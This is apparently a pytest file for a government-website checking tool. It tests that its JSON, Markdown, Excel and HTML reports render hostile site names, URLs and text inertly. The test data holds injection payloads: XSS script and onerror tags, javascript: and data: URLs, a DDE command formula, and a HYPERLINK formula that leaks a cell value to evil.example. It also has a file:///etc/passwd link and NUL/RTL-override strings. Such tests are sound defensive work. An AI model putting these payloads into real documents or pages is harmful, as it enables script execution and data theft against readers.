"""Hostile names in every report format: a hacked site's title, column names and URLs stay text.

The values a hostile site controls (site name, 网站标识码 as found in its footer, column names, URLs,
evidence text) are stored as evaluations, then `govcheck report`
and `govcheck recheck` render them in every format. Each output is read back the way its reader
would: JSON parsed, Markdown checked for live HTML and broken table rows, the xlsx opened with
openpyxl (no formula cell anywhere), the html parsed (only the bulletin's own tags, attributes and
http(s) links). PostgreSQL cannot store NUL in text, so on it the NUL case is the rest of its value.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from govcheck.db.models import Evaluation, Finding, Site
from govcheck.db.session import open_database, session_factory
from tests.faults.measure import run_measured
from tests.faults.record import FaultReport

REPO = Path(__file__).resolve().parents[2]
AS_OF = {"previous": dt.date(2023, 12, 15), "current": dt.date(2024, 2, 28)}
# Round names are typed by an operator and refused at input unless plain (govcheck.names.check_round).
ROUNDS = {"previous": "2023-Q4", "current": "2024-Q1"}
HOSTILE = {
    "script": "<script>alert(document.cookie)</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "dde formula": "=cmd|' /C calc'!A0",
    "hyperlink formula": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "NUL": "随州\x00市审计局",
    "RTL override": "随州市\u202egnp.exe",
    "5,000 characters": "长" * 5000,
    "markdown": "a|b\n| c [x](javascript:alert(1)) `x` **y**\r\t@SUM(1)",
}
URLS = [
    "javascript:alert(1)",
    'http://sjj.suizhou.gov.cn/"><script>alert(1)</script>',
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
]
VERDICTS = ("fail", "pass", "unknown")
TAGS = {"html", "head", "meta", "title", "style", "body", "p", "h1", "h2", "span", "table", "thead",
        "tbody", "tr", "th", "td", "a", "pre", "div", "section"}  # fmt: skip
ATTRIBUTES = {"lang", "charset", "class", "colspan", "href"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")
LINK_SYNTAX = re.compile(r"(?<!\\)\]\(")  # ](…) not escaped as \](…)


def stored(value: str, length: int | None, dialect: str) -> str:
    """``value`` as the backend keeps it: no NUL in PostgreSQL text, cut to the column's length."""
    if dialect == "postgresql":
        value = value.replace("\x00", "")
    return value[:length] if length else value


def seed(engine: Engine) -> list[str]:
    """One site per hostile value, evaluated in both rounds with a finding built from it; the names."""
    dialect = engine.dialect.name
    names = []
    with session_factory(engine)() as session, session.begin():
        for number, (label, value) in enumerate(HOSTILE.items()):
            url = URLS[number % len(URLS)]
            site = Site(
                site_code=stored(value, 16, dialect),
                name=stored(value, 200, dialect),
                host=f"h{number}.suizhou.gov.cn",
                homepage=url,
                in_registry=True,
            )
            session.add(site)
            session.flush()
            names.append(site.name)
            for key in ("previous", "current"):
                evaluation = Evaluation(
                    site_id=site.id,
                    as_of=AS_OF[key],
                    round=ROUNDS[key],
                    verdict=VERDICTS[number % 3],
                    reason=stored(value, 100, dialect) if VERDICTS[number % 3] == "unknown" else None,
                    score=50.0,
                    rulebook="国办秘函〔2019〕19号",
                    thresholds={},
                    summary=stored(value, None, dialect),
                )
                session.add(evaluation)
                session.flush()
                session.add(
                    Finding(
                        evaluation_id=evaluation.id,
                        code="column_stale",
                        veto=True,
                        column_name=stored(value, 200, dialect),
                        column_url=url,
                        url=url,
                        threshold_days=14,
                        newest=AS_OF[key] - dt.timedelta(days=30),
                        message=stored(value, None, dialect),
                        evidence={
                            "newest_text": stored(value, None, dialect),
                            "http_status": 200,
                            label: url,
                        },
                    )
                )
    return names


class Tags(HTMLParser):
    """Every tag and attribute of a page, and the rows of its first 附件 table."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.hrefs: list[str] = []
        self.annex_rows = 0
        self._tables = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.hrefs += [value or "" for name, value in attrs if name == "href"]
        if tag == "table" and ("class", "listing") in attrs:
            self._tables += 1
        if tag == "td" and ("class", "no") in attrs and self._tables == 1:
            self.annex_rows += 1


def inert_problems(fmt: str, output: bytes, names: list[str]) -> tuple[list[str], int]:
    """What in ``output`` is not inert, and how many sites it lists."""
    problems: list[str] = []
    if fmt == "json":
        data = json.loads(output)
        listed = [s["name"] for s in data["sites"]]
        if set(listed) - set(names) or not listed:
            problems.append("names changed on the way to JSON")
        return problems, len(listed)
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(output))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        problems.append(f"formula in {sheet.title}!{cell.coordinate}")
                    text = cell.value if isinstance(cell.value, str) else ""
                    if text.startswith(FORMULA_STARTS) and not cell.quotePrefix:
                        problems.append(
                            f"{sheet.title}!{cell.coordinate} starts like a formula, no quote prefix"
                        )
                    if "\x00" in text or "\u202e" in text:
                        problems.append(f"{sheet.title}!{cell.coordinate} holds a control character")
        annex = book.worksheets[1]
        return problems, annex.max_row - 3
    page = output.decode("utf-8")
    if fmt == "markdown":
        lines = [line for line in page.splitlines() if line.startswith("| ")]
        columns = len(UNESCAPED_PIPE.findall(lines[0]))
        problems += [
            f"row breaks the table: {line[:60]}"
            for line in lines
            if len(UNESCAPED_PIPE.findall(line)) != columns
        ]
        for live in ("<script", "<img", "\x00", "\u202e"):
            if live in page:
                problems.append(f"live {live!r} in Markdown")
        if LINK_SYNTAX.search(page):
            problems.append("a live Markdown link")
        # The annex is the first table: its rows end before the first blank line after the header.
        annex = page[page.index(lines[0]) :].split("\n\n")[0].splitlines()[2:]
        return problems, len(annex)
    parser = Tags()
    parser.feed(page)
    problems += [f"tag <{tag}> from the data" for tag in parser.tags - TAGS]
    problems += [f"attribute {name} from the data" for name in parser.attributes - ATTRIBUTES]
    problems += [
        f"link to {href[:40]}" for href in parser.hrefs if not href.startswith(("http://", "https://"))
    ]
    problems += [f"live {live!r}" for live in ("\x00", "\u202e") if live in page]
    return problems, parser.annex_rows


@pytest.mark.parametrize("command", ["report", "recheck"])
def test_hostile_names_are_inert_in_every_format(
    command: str, database_url: str, tmp_path: Path, fault_report: FaultReport
) -> None:
    engine = open_database(database_url, migrate=True)
    names = seed(engine)
    backend = engine.dialect.name
    engine.dispose()
    env = {
        "GOVCHECK_DATABASE_URL": database_url,
        "PATH": "/usr/bin:/bin",
        "GOVCHECK_ISSUER": HOSTILE["script"],
    }
    if command == "report":
        args = ["report", "--as-of", AS_OF["current"].isoformat(), "--round", ROUNDS["current"]]
    else:
        args = ["recheck", "--previous", ROUNDS["previous"], "--current", ROUNDS["current"]]
    failures = []
    for fmt in ("json", "markdown", "xlsx", "html"):
        out = tmp_path / f"{command}.{fmt}"
        run = run_measured(
            [sys.executable, "-m", "govcheck.cli", *args, "--format", fmt, "-o", str(out)],
            env=env,
            cwd=REPO,
            timeout=120,
        )
        problems, listed = (
            inert_problems(fmt, out.read_bytes(), names)
            if run.returncode == 0
            else ([run.stderr.strip().splitlines()[-1]], 0)
        )
        fault_report.record(
            f"hostile names ({len(HOSTILE)} kinds) → {command} {fmt} [{backend}]",
            survived=not problems,
            seconds=run.seconds,
            peak_rss_mb=run.peak_rss_mb,
            rows_expected=len(HOSTILE),
            rows_stored=listed,
            note="; ".join(problems)[:120],
        )
        failures += [f"{fmt}: {p}" for p in problems]
        if not problems:
            assert listed == len(HOSTILE), f"{fmt}: {listed} sites listed"
    assert failures == []
